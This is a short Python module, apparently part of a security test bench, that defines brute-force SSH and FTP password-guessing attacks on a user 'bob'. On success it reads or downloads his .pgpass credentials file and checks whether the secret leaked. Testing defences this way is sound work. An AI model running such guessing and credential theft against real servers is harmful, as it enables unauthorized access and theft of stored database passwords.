# SPDX-License-Identifier: GPL-2.0
"""Guessing, and what follows when it succeeds."""

from bench.attacks.attack import Attack
from bench.clients import files, shell
from bench.net import INTRUDER

GUESSES = [f"summer{year}" for year in range(2001, 2024)] + ["letmein"]


class Ssh(Attack):
    """Two dozen passwords; then the credentials of the one who had chosen a bad one."""

    name = "brute-ssh"
    servers = ("sshd",)
    patience = 150

    def run(self):
        self.loot = shell.guess("bob", GUESSES, "cat .pgpass").encode()

    def damaged(self):
        return self.secret("bob") in self.loot


class Ftp(Attack):
    """The same by FTP."""

    name = "brute-ftp"
    servers = ("vsftpd",)
    patience = 90

    def run(self):
        for word in GUESSES:
            if files.accepts("bob", word, INTRUDER):
                with files.session("bob", word, INTRUDER) as ftp:
                    self.loot = files.download(ftp, ".pgpass")

    def damaged(self):
        return self.secret("bob") in self.loot


ATTACKS = [Ssh, Ftp]
